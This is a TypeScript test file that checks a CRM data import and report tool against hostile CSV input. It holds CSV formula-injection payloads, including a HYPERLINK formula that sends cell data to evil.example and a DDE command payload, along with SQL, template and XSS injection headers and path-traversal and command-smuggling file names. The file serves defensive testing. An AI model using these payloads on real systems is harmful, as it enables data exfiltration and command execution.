import { existsSync, readdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it, vi } from 'vitest'
import type { Api } from '../../src/contract/api.ts'
import { openTestEngine, temporaryFolder } from '../engine/workspace/open-test-engine.ts'
import { runCli } from './run-cli.ts'

vi.setConfig({ testTimeout: 60_000 })

async function send(api: Api, name: string, text: string): Promise<string> {
  const { upload } = await api.sources.begin({ name })
  await api.sources.append({ upload, bytes: Buffer.from(text) })
  await api.sources.finish({ upload })
  return upload
}

describe('a file that means harm', () => {
  it('brings formulas in as texts, and none comes out as one', async () => {
    const folder = temporaryFolder()
    const formulas = ['=1+1', '+1+1', '-2+3', '@SUM(A1)', `=HYPERLINK("http://evil.example/"&A1,"x")`, "=cmd|' /C calc'!A0", '\t=1+1']
    const cell = (text: string): string => `"${text.replaceAll('"', '""')}"`
    const lines = formulas.map(
      (formula, index) => `D${index},${cell(formula)},${cell(`Firm ${formula}`)},10,Won,2026-01-05,${cell(formula)}`,
    )
    writeFileSync(
      join(folder, 'deals.csv'),
      `Opportunity ID,Opportunity Name,Account Name,Amount,Stage,Created Date,Lead Source\n${lines.join('\n')}\n`,
    )
    expect((await runCli(['import', 'w.helmdeck', 'deals.csv'], { folder })).code).toBe(0)
    const spec = JSON.stringify({ rows: [{ field: 'channel.name' }], values: [{ metric: 'won_value' }] })
    const { out } = await runCli(['report', 'w.helmdeck', '-', '--format', 'csv'], { folder, input: spec })
    const cells = out.replace('\ufeff', '').trimEnd().split(/\r?\n/).slice(1)
    expect(cells.length).toBeGreaterThanOrEqual(6)
    expect(cells.filter((line) => /^"?[=+\-@\t\r]/.test(line))).toEqual([])
    expect(cells.filter((line) => line.includes('SUM(A1)'))).toHaveLength(1)
  })

  it('has headers that are only names', async () => {
    const headers = [
      ["'; drop table model.opportunity; --", '"; drop table model.opportunity; --'],
      ['x"), (select 1); --', "v_' || (select 1) || '"],
      ['${process.exit()}', '{{constructor.constructor("return 1")()}}'],
      ['<img src=x onerror=alert(1)>', 'row_number'],
      ['\u202egnp.exe', 'c0'],
      [`${'很'.repeat(300)}`, 'source_id'],
    ]
    const { api } = await openTestEngine()
    const head = (text: string): string => `"${text.replaceAll('"', '""')}"`
    const uploads: string[] = []
    for (const [index, [one = '', other = '']] of headers.entries())
      uploads.push(
        await send(
          api,
          `deals-${index}.csv`,
          `Opportunity ID,Opportunity Name,Amount,Stage,Created Date,${head(one)},${head(other)}\nA${index},a,1,Won,2026-01-05,p,q\nB${index},b,2,Won,2026-01-05,r,s\n`,
        ),
      )
    const { files } = await api.imports.run({ uploads })
    expect(files.map(({ recognisedAs, loaded, quarantined }) => [recognisedAs, loaded, quarantined])).toEqual(
      headers.map(() => ['opportunity', 2, 0]),
    )
    const { dimensions } = await api.catalog.list({})
    const own = dimensions.filter(({ id }) => id.startsWith('custom.opportunity.'))
    expect(own.map(({ label }) => label.en).toSorted()).toEqual(headers.flat().toSorted())
    for (const { id } of own) {
      const { n } = await api.reports.run({ spec: { rows: [{ field: id }], values: [{ metric: 'won_value' }] } })
      expect(n).toEqual({ won_value: 12 })
    }
  })

  it('stays in its place, however it is called', async () => {
    const names = [
      '../../x.csv',
      '/etc/x.csv',
      '..\\..\\x.csv',
      'a;b.csv',
      'CON.csv',
      '$(touch x).csv',
      '-rf.csv',
      `${'名'.repeat(83)}.csv`,
      'x\'y"z.csv',
    ]
    const { api, folder } = await openTestEngine()
    const outside = join(folder, '..')
    const uploads: string[] = []
    const hashes: string[] = []
    for (const [index, name] of names.entries()) {
      const { upload } = await api.sources.begin({ name })
      await api.sources.append({ upload, bytes: Buffer.from(`Opportunity ID,Amount,Stage\nA${index},1,Won\nB${index},2,Won\n`) })
      hashes.push((await api.sources.finish({ upload })).hash)
      uploads.push(upload)
    }
    const { files } = await api.imports.run({ uploads })
    expect(files.map(({ name, loaded }) => [name, loaded])).toEqual(names.map((name) => [name.replace(/^.*[\\/]/, ''), 2]))
    expect(readdirSync(outside)).toEqual([folder.slice(outside.length + 1)])
    expect(existsSync('/etc/x.csv')).toBe(false)
    expect(readdirSync(join(folder, 'sources')).toSorted()).toEqual(hashes.toSorted())
    expect(readdirSync(join(folder, 'incoming'))).toEqual([])
    for (const [index, hash] of hashes.entries())
      expect(await api.reports.sourceRow({ hash, sheet: null, row: 2 })).toMatchObject({ cells: [`B${index}`, '2', 'Won'] })
  })
})
